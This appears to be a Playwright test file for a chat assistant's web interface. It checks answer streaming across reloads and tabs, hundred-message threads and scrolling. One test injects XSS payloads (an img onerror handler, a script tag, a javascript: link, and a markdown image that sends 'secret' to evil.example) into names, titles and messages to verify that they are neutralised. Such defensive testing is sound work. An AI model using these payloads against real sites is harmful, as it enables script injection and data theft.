/** Reconnecting streams, and long threads. */
import type { Page } from '@playwright/test';
import {
  answers,
  ask,
  chat,
  ended,
  isPhone,
  openConversations,
  own,
  prompt,
} from './fixtures/assistant.fixture.ts';
import { expect, newPerson, patient, signUpByCall, test } from './fixtures/journey.fixture.ts';

test('an answer continues after a reload and in a second tab, every word once', {
  tag: '@desktop',
}, async ({ page, context, member, server, expectTrouble }) => {
  expect(member.email).toBeTruthy();
  await page.goto(chat);
  await prompt(page).fill('Compare oak and laminate flooring');
  await prompt(page).press('Enter');
  await expect(page).toHaveURL(/\?c=/);
  await expect(answers(page).last()).toContainText(/\w{4}/);
  const second = await context.newPage();
  await Promise.all([page.reload(), second.goto(page.url())]);
  const shown = async (where: Page) => {
    await expect(ended(where)).toBeVisible();
    // Text arrives before its renderer is loaded; a table shows that it is.
    await expect(answers(where).last().getByRole('table')).toBeVisible();
    return answers(where).last().innerText();
  };
  const whole = await shown(page);
  expect(whole).toContain('Laminate');
  expect(await shown(second)).toBe(whole);
  await page.reload();
  expect(await shown(page)).toBe(whole);

  // A tab is notified of an answer in progress, but tries to resume it just after it ended.
  let looks = 0;
  await second.route('**/api/conversations/*', async (route) => {
    looks += 1;
    if (looks > 1) return route.fallback();
    const response = await route.fetch();
    return route.fulfill({ response, json: { ...(await response.json()), answering: true } });
  });
  await second.reload();
  expect(await shown(second)).toBe(whole);
  expect(looks).toBe(2);

  // A question sent in one tab appears in the other, also in the background.
  await ask(second, 'Thanks');
  await expect(own(page)).toHaveCount(2);
  await expect(answers(page).last()).toContainText('You are welcome.');

  // The connection breaks right after the question: the page resumes the answer by itself.
  await second.close();
  expectTrouble(/ERR_INTERNET_DISCONNECTED/);
  await page.route('**/api/assistant', async (route) => {
    const { id } = route.request().postDataJSON();
    const going = route.fetch();
    const kept = `${server.url}/api/conversations/${id}`;
    await expect
      .poll(async () => (await (await context.request.get(kept)).json()).messages.length)
      .toBe(6);
    await route.abort('internetdisconnected');
    await going;
  });
  await prompt(page).fill('Compare quartz and granite worktops');
  await prompt(page).press('Enter');
  await expect(answers(page)).toHaveCount(3);
  await expect(ended(page)).toBeVisible();
  await expect(own(page)).toHaveCount(3);
  await expect(answers(page).last().getByRole('table')).toBeVisible();
});

const lineOf = (place: number) => `Line ${place}. ${'Words of it. '.repeat(20)}`;
const hostileName = '<img src=x onerror="document.title=\'taken\'">';
const hostile = [
  hostileName,
  '![a](https://evil.example/?d=secret) ![b](//evil.example/b.png)',
  '[click](javascript:document.title="taken") [out](https://records.example/plan)',
  '<script>document.title="taken"</script>',
  '| A | B |\n| - | - |\n| 1 | 2 |',
].join('\n\n');

test('a hundred messages open at their end; hostile names, titles and texts do nothing (X-02, X-04)', {
  tag: '@phone',
}, async ({ page, context, server }) => {
  await signUpByCall(context, server.url, { ...newPerson(), firstName: hostileName });
  const id = crypto.randomUUID();
  const messages = Array.from({ length: 100 }, (_, place) => ({
    id: `message-${place}`,
    role: place % 2 === 0 ? 'user' : 'assistant',
    parts: [{ type: 'text', text: place === 99 ? hostile : lineOf(place) } as object],
    metadata: place === 97 ? { ended: 'interrupted' } : {},
  }));
  const head = { id, title: hostileName, updatedAt: new Date().toISOString() };
  messages[98]?.parts.unshift({
    type: 'file',
    mediaType: 'image/png',
    filename: hostileName,
    url: 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
  });
  await page.route(`**/api/conversations/${id}`, (route) =>
    route.fulfill({ json: { ...head, answering: false, messages } }),
  );
  await page.route(/\/api\/conversations(?:\?|$)/, (route) => route.fulfill({ json: [head] }));
  await page.goto(`${chat}?c=${id}`);
  await expect(answers(page)).toHaveCount(50);
  await expect(answers(page).last().getByRole('table')).toBeInViewport();
  await expect(answers(page).nth(48)).toContainText('This answer was interrupted.');
  await expect(answers(page).last().getByRole('img')).toHaveCount(0);
  const out = answers(page).last().getByRole('link', { name: 'out (records.example)' });
  await expect(out).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(own(page).last().getByRole('img', { name: hostileName })).toBeAttached();
  await page.getByRole('button', { name: 'Profile' }).click();
  await expect(page.getByRole('dialog').getByText(hostileName)).toBeVisible();
  await page.keyboard.press('Escape');
  const list = await openConversations(page);
  await expect(list.getByRole('button', { name: hostileName, exact: true })).toBeVisible();
  if (isPhone(page)) await page.keyboard.press('Escape');
  expect(await page.title()).not.toContain('taken');

  await page.mouse.move(200, 300);
  await page.mouse.wheel(0, -3_000);
  const jump = page.getByRole('button', { name: 'Jump to latest' });
  await expect(jump).toBeVisible();
  // The button overlays the thread: in the layout, its removal would shift what is being clicked.
  const heightPx = () => page.evaluate(() => document.documentElement.scrollHeight);
  const withJumpPx = await heightPx();
  await jump.click();
  await expect(answers(page).last().getByRole('table')).toBeInViewport();
  await expect(jump).toBeHidden();
  expect(await heightPx()).toBe(withJumpPx);

  // A growing answer doesn't scroll during a press; afterwards its start moves to the top.
  const atEnd = () =>
    page.evaluate(() => {
      const { scrollHeight } = document.documentElement;
      return scrollHeight - window.scrollY - window.innerHeight < 2;
    });
  const questionAt = async () => (await own(page).last().boundingBox())?.y;
  await prompt(page).fill('Compare oak and laminate flooring');
  await prompt(page).press('Enter');
  await expect(answers(page)).toHaveCount(51);
  // In the middle of the thread at both widths.
  await page.mouse.move(isPhone(page) ? 200 : 760, 300);
  await page.mouse.down();
  const pressedAt = await page.evaluate(() => window.scrollY);
  await expect(ended(page)).toBeAttached(patient);
  expect(await page.evaluate(() => window.scrollY)).toBe(pressedAt);
  expect(await atEnd()).toBe(false);
  await page.mouse.up();
  await expect.poll(questionAt).toBeLessThan(100);
  expect(await questionAt()).toBeGreaterThan(60);
});
